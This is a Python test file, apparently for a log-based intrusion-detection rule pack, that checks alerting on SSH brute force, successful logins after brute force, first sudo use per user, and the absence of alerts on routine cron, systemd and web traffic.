def test_bruteforce_suppress_window(pack: RuleSet, tmp_path: Path) -> None:
    """A second burst from the same address 9 minutes after the last hit merges; 11
    minutes after, it opens a new alert. Another address always has its own."""
    lines = (failures(ATTACKER, 5) + failures(OTHER, 5, start=1)
             + failures(ATTACKER, 5, start=8 + 9 * 60) + failures(ATTACKER, 5, start=16 + 20 * 60 + 60))
    lines.sort(key=lambda line: datetime.strptime(f"{YEAR} {line[:15]}", "%Y %b %d %H:%M:%S"))
    res = run(pack, lines, tmp_path)
    alerts = [a for a in res.alerts if a.rule_name == "ssh_bruteforce"]
    by_ip: dict[str, list] = {}
    for a in alerts:
        by_ip.setdefault(a.src_ip, []).append(a)
    assert len(by_ip[OTHER]) == 1
    first, second = sorted(by_ip[ATTACKER], key=lambda a: a.first_seen)
    assert len(by_ip[ATTACKER]) == 2
    assert first.count == 2 and len(first.evidence) == 10
    assert second.count == 1 and len(second.evidence) == 5


def test_success_after_bruteforce_only_same_address_within_10_minutes(pack: RuleSet, tmp_path: Path) -> None:
    accepted = "Accepted password for deploy from {ip} port 50100 ssh2"
    # After the brute force, from the same address: fires, critical, grouped by address.
    res = run(pack, failures(ATTACKER, 6) + [sshd(70, accepted.format(ip=ATTACKER), 5100)], tmp_path)
    crit = [a for a in res.alerts if a.rule_name == "ssh_success_after_bruteforce"]
    assert len(crit) == 1
    assert crit[0].severity == "critical" and crit[0].src_ip == ATTACKER
    assert any("Accepted password" in line for line in res.lines(crit[0]))
    assert any("Failed password" in line for line in res.lines(crit[0]))
    assert "ssh_bruteforce" in raised(res)  # still raised on its own
    # 9 min 50 s after the last failure: still within 10 minutes.
    res = run(pack, failures(ATTACKER, 6) + [sshd(10 + 590, accepted.format(ip=ATTACKER), 5100)], tmp_path)
    assert "ssh_success_after_bruteforce" in raised(res)
    # From another address, or more than 10 minutes later: nothing.
    res = run(pack, failures(ATTACKER, 6) + [sshd(70, accepted.format(ip=OTHER), 5100)], tmp_path)
    assert "ssh_success_after_bruteforce" not in raised(res)
    res = run(pack, failures(ATTACKER, 6) + [sshd(10 + 610, accepted.format(ip=ATTACKER), 5100)], tmp_path)
    assert "ssh_success_after_bruteforce" not in raised(res)
    # Failures below the brute-force threshold: nothing.
    res = run(pack, failures(ATTACKER, 4) + [sshd(70, accepted.format(ip=ATTACKER), 5100)], tmp_path)
    assert raised(res) == set()


def test_sudo_first_use_fires_once_per_user(pack: RuleSet, tmp_path: Path) -> None:
    lines = [
        sudo(0, "alice", "/usr/bin/apt-get update"),
        sudo(5, "alice", "/usr/bin/apt-get upgrade -y"),
        sudo(10, "bob", "/bin/systemctl restart nginx"),
        sudo(3600, "alice", "/usr/bin/vi /etc/hosts"),  # long after: still not new
        sudo(3700, "bob", "/bin/journalctl -u nginx"),
    ]
    res = run(pack, lines, tmp_path)
    first = [a for a in res.alerts if a.rule_name == "sudo_first_use"]
    assert sorted(a.user for a in first) == ["alice", "bob"]
    assert all(a.count == 1 and len(a.evidence) == 1 for a in first)
    assert {res.lines(a)[0] for a in first} == {lines[0], lines[2]}


def test_background_noise_raises_nothing_above_low(pack: RuleSet, tmp_path: Path) -> None:
    """What a quiet server logs all day (cron, systemd, admins with keys running
    apt, package installs creating service accounts, crawlers and visitors on
    the web site) raises no critical, high or medium alert."""
    auth, webl = [], []
    for m in range(0, 120, 5):
        s = m * 60
        auth.append(sl(s, f"CRON[{9000 + m}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))
        auth.append(sl(s, f"CRON[{9000 + m}]", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"))
        auth.append(sl(s + 1, f"CRON[{9000 + m}]", "pam_unix(cron:session): session closed for user root"))
        auth.append(sl(s + 2, "systemd[1]", "Starting sysstat-collect.service - system activity accounting tool..."))
        auth.append(sl(s + 3, "systemd[1]", "sysstat-collect.service: Deactivated successfully."))
    auth += [
        sshd(600, "Accepted publickey for alice from 198.51.100.23 port 50110 ssh2: ED25519 SHA256:Zm9vYmFyYmF6", 3001),
        sshd(600, "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)", 3001),
        sl(601, "systemd-logind[612]", "New session 42 of user alice."),
        sudo(620, "alice", "/usr/bin/apt-get update"),
        sl(620, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)"),
        sudo(660, "alice", "/usr/bin/apt-get install -y chrony"),
        sl(670, "groupadd[7001]", "group added to /etc/group: name=_chrony, GID=120"),
        sl(670, "groupadd[7001]", "new group: name=_chrony, GID=120"),
        sl(670, "useradd[7002]", "new user: name=_chrony, UID=112, GID=120, home=/var/lib/chrony, shell=/usr/sbin/nologin, from=none"),
        sl(671, "systemd[1]", "Started chrony.service - chrony, an NTP client/server."),
        sudo(700, "alice", "/bin/journalctl -u chrony"),
        sudo(720, "alice", "/usr/bin/tail -n 50 /var/log/syslog"),
        sshd(900, "Received disconnect from 198.51.100.23 port 50110:11: disconnected by user", 3001),
        sshd(900, "pam_unix(sshd:session): session closed for user alice", 3001),
        sl(3600, "systemd[1]", "Starting logrotate.service - Rotate log files..."),
        sl(3601, "systemd[1]", "logrotate.service: Deactivated successfully."),
        sshd(4000, "Accepted publickey for bob from 198.51.100.24 port 50200 ssh2: ED25519 SHA256:YmFyYmF6cXV4", 3002),
        sudo(4010, "bob", "/usr/bin/apt-get upgrade -y"),
    ]
    pages = ["/", "/about", "/blog/post-1", "/blog/post-2", "/static/app.css", "/static/app.js", "/img/logo.png"]
    for i in range(600):
        ip = f"198.51.100.{10 + i % 40}"
        page = pages[i % len(pages)]
        webl.append(web(i * 7, ip, f"GET {page} HTTP/1.1", 200 if i % 50 else 404, referer="https://example.org/"))
        if i % 20 == 0:
            webl.append(web(i * 7 + 1, "66.249.66.1", f"GET {page} HTTP/1.1", 200, ua=GOOGLEBOT_UA))
            webl.append(web(i * 7 + 2, "157.55.39.1", "GET /robots.txt HTTP/1.1", 200,
                            ua="Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"))
        if i % 100 == 0:
            webl.append(web(i * 7 + 3, "66.249.66.1", "GET /old-page HTTP/1.1", 404, ua=GOOGLEBOT_UA))
    auth.sort(key=lambda line: datetime.strptime(f"{YEAR} {line[:15]}", "%Y %b %d %H:%M:%S"))
    res = run(pack, auth, tmp_path, "auth.log")
    res_web = run(pack, webl, tmp_path, "access.log")
    loud = [(a.rule_name, a.severity) for a in res.alerts + res_web.alerts if SEVERITY_RANK[a.severity] > SEVERITY_RANK["low"]]
    assert loud == []
    assert {a.rule_name for a in res.alerts} == {"sudo_first_use"}
    assert res_web.alerts == []
